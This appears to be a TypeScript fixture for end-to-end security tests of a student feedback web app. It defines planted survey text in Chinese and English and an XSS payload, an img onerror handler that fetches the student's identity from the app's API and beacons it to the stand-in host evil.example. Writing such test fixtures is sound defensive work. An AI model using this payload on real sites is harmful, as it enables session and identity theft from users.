// What e2e/setup/plant.ts writes into the copy of the e2e database, and e2e/security.e2e.ts looks for.
export const PLANTED_TEXT = { zh: "请根据本学期的真实感受作答。", en: "Answer as you really found this term." };
// The attack's handler: counts its runs, reads the student's identity, sends it away.
const HANDLER =
  "window.__pwned=(window.__pwned||0)+1;fetch('/api/trpc/me.whoami').then(function(r){return r.text()}).then(function(t){navigator.sendBeacon('https://evil.example/',t)})";
export const PAYLOAD = `<img src=x onerror="${HANDLER}">`;
